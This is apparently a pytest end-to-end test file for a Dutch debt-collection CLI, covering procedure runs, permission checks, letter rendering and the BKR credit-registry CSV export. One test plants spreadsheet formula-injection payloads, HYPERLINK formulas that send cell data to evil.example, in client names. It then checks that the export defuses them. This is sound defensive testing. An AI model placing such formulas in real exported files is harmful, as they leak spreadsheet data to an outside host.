"""The real ``incasso procedure run`` and ``incasso bkr export`` commands."""

from __future__ import annotations

import csv
import json
import shutil
from datetime import datetime, time, timedelta
from decimal import Decimal
from pathlib import Path

from sqlalchemy import select, update

from incasso_tui.domain.procedure import DEFAULT_PROCEDURE_PATH
from incasso_tui.store.db import Database
from incasso_tui.store.models import BkrMutation, Case, Client, Loan
from tests.conftest import AS_OF
from tests.dispatch_helpers import dispatch_waiting
from tests.e2e.test_cli import one_line_error, run


def test_procedure_run_json_twice_and_bkr_export(sqlite_template: str, tmp_path: Path) -> None:
    path = tmp_path / "b.db"
    shutil.copy(sqlite_template, path)
    url = f"sqlite:///{path}"
    day = AS_OF.isoformat()
    dry = run("procedure", "run", "--db", url, "--date", day, "--dry-run", "--json")
    assert dry.returncode == 0, dry.stderr
    first = run("procedure", "run", "--db", url, "--date", day, "--json", "--user", "bakker")
    assert first.returncode == 0, first.stderr
    report = json.loads(first.stdout)
    assert report["date"] == day and report["actions"]["case_moved"] > 0 and report["run_id"] == 1
    assert json.loads(dry.stdout)["actions"] == report["actions"]
    second = json.loads(run("procedure", "run", "--db", url, "--date", day, "--json").stdout)
    assert set(second["actions"].values()) == {0}
    text = run("procedure", "run", "--db", url, "--date", day)
    assert text.returncode == 0 and "case_moved" in text.stdout and "procedure run 3" in text.stdout

    # a case put back at the warning stage gets a warning today; posted today, it is assumed received on Wednesday
    # 25 November (2 delivery days), so its code A follows five days after that, on 30 November (issue 12)
    db = Database(url)
    with db.transaction() as s:
        case_id = s.scalars(
            select(Case.id)
            .join(Client, Client.id == Case.client_id)
            .where(
                Case.status == "active",
                Case.stage == "default_notice",
                Case.pos_arrears > 500,
                Client.kind != "bv",
                Client.consumer.is_(True),
            )
            .order_by(Case.id)
        ).first()
        s.execute(
            update(Case).where(Case.id == case_id).values(stage="bkr_warning", stage_since=AS_OF - timedelta(days=40))
        )
    later = (AS_OF + timedelta(days=7)).isoformat()
    assert run("procedure", "run", "--db", url, "--date", day, "--json").returncode == 0
    assert dispatch_waiting(db, AS_OF, case_id=case_id, kind="bkr_warning")
    assert run("procedure", "run", "--db", url, "--date", later, "--json").returncode == 0
    out = tmp_path / "exports" / "bkr.csv"  # a plain file name, in the export directory
    exported = run(
        "bkr",
        "export",
        "--db",
        url,
        "--date",
        later,
        "--out",
        "bkr.csv",
        env={"INCASSO_EXPORT_DIR": str(tmp_path / "exports")},
    )
    assert exported.returncode == 0, exported.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {r["code"] for r in rows} >= {"A"} and all(r["mutation_date"] == later for r in rows)
    assert all(r["warning_date"] == day for r in rows if r["code"] == "A")
    with db.reader() as s:
        marked = list(
            s.scalars(select(BkrMutation.exported_on).where(BkrMutation.mutation_date == AS_OF + timedelta(days=7)))
        )
    db.dispose()
    assert marked and set(marked) == {AS_OF + timedelta(days=7)}


def test_an_employee_may_not_run_the_procedure(sqlite_template: str, tmp_path: Path) -> None:
    path = tmp_path / "b.db"
    shutil.copy(sqlite_template, path)
    line = one_line_error(run("--lang", "en", "procedure", "run", "--db", f"sqlite:///{path}", "--user", "demo"))
    assert "may not do this" in line


def test_a_broken_procedure_file_stops_the_run(sqlite_template: str, tmp_path: Path) -> None:
    path = tmp_path / "b.db"
    shutil.copy(sqlite_template, path)
    bad = tmp_path / "procedure.toml"
    bad.write_text(
        DEFAULT_PROCEDURE_PATH.read_text(encoding="utf-8").replace("after_days = 14", "after_days = -14", 1),
        encoding="utf-8",
    )
    line = one_line_error(
        run("--lang", "en", "procedure", "run", "--db", f"sqlite:///{path}", env={"INCASSO_PROCEDURE_FILE": str(bad)})
    )
    assert str(bad) in line and "consumer.demand" in line and "after_days" in line


def test_the_run_renders_the_letters_it_decided_or_says_why_they_wait(sqlite_template: str, tmp_path: Path) -> None:
    path = tmp_path / "b.db"
    shutil.copy(sqlite_template, path)
    url = f"sqlite:///{path}"
    day = AS_OF.isoformat()
    waiting = run("procedure", "run", "--db", url, "--date", day, "--json")
    assert waiting.returncode == 0, waiting.stderr
    letters = json.loads(waiting.stdout)["letters"]
    assert letters["rendered"] == 0 and letters["waiting"] > 0 and "lender_" in letters["why_waiting"]
    decided = letters["waiting"]

    outbox = tmp_path / "letters"
    lender = {
        "INCASSO_LENDER_NAME": "Demo Krediet B.V.",
        "INCASSO_LENDER_STREET": "Stationsplein 1",
        "INCASSO_LENDER_POSTCODE": "3511 ED",
        "INCASSO_LENDER_CITY": "Utrecht",
        "INCASSO_LENDER_IBAN": "NL91ABNA0417164300",
        "INCASSO_LENDER_PHONE": "030 123 45 67",
        "INCASSO_LENDER_EMAIL": "incasso@example.nl",
        "INCASSO_LETTERS_DIR": str(outbox),
    }
    rendered = run("procedure", "run", "--db", url, "--date", day, "--json", env=lender)
    assert rendered.returncode == 0, rendered.stderr
    letters = json.loads(rendered.stdout)["letters"]
    assert letters["rendered"] == decided and letters["waiting"] == 0 and letters["failed"] == 0
    assert len(list(outbox.rglob("*.pdf"))) == letters["rendered"]


def test_the_bkr_export_defuses_every_formula_prefix(sqlite_template: str, tmp_path: Path) -> None:
    """A client name (or kvk number, postcode, code) that starts with = + - @, a tab or a carriage return reaches the
    BKR file with a leading apostrophe: a spreadsheet shows it as text, never runs it (safetext.csv_cell)."""
    path = tmp_path / "f.db"
    shutil.copy(sqlite_template, path)
    url = f"sqlite:///{path}"
    day = AS_OF + timedelta(days=3)
    names = {
        prefix: f'{prefix}HYPERLINK("http://evil.example/?"&A1,"klik")' for prefix in ("=", "+", "-", "@", "\t", "\r")
    }
    db = Database(url)
    with db.transaction() as s:
        pairs = s.execute(select(Loan.id, Loan.client_id).order_by(Loan.id).limit(len(names))).all()
        for (loan_id, client_id), name in zip(pairs, names.values(), strict=True):
            s.execute(update(Client).where(Client.id == client_id).values(name=name, postcode="=1+1"))
            s.add(
                BkrMutation(
                    loan_id=loan_id,
                    client_id=client_id,
                    code="A",
                    mutation_date=day,
                    amount=Decimal("10.00"),
                    created_by="@bakker",
                    created_at=datetime.combine(day, time(6)),
                )
            )
    db.dispose()
    exported = run(
        "bkr",
        "export",
        "--db",
        url,
        "--date",
        day.isoformat(),
        "--out",
        "bkr.csv",
        env={"INCASSO_EXPORT_DIR": str(tmp_path / "exports")},
    )
    assert exported.returncode == 0, exported.stderr
    out = tmp_path / "exports" / "bkr.csv"
    assert out.stat().st_mode & 0o777 == 0o600  # client data: the owner's only (atomicfile)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    shown = {"\t": "\u2409", "\r": "\u240d"}  # a tab and a carriage return as their control pictures (safetext.safe)
    assert sorted(r["name"] for r in rows) == sorted("'" + shown.get(p, p) + n[1:] for p, n in names.items())
    assert {r["postcode"] for r in rows} == {"'=1+1"} and {r["created_by"] for r in rows} == {"'@bakker"}
    text_columns = ("code", "loan_number", "client_number", "client_kind", "name", "kvk", "postcode", "created_by")
    assert not [r[c] for r in rows for c in text_columns if r[c][:1] in ("=", "+", "-", "@", "\t", "\r")]
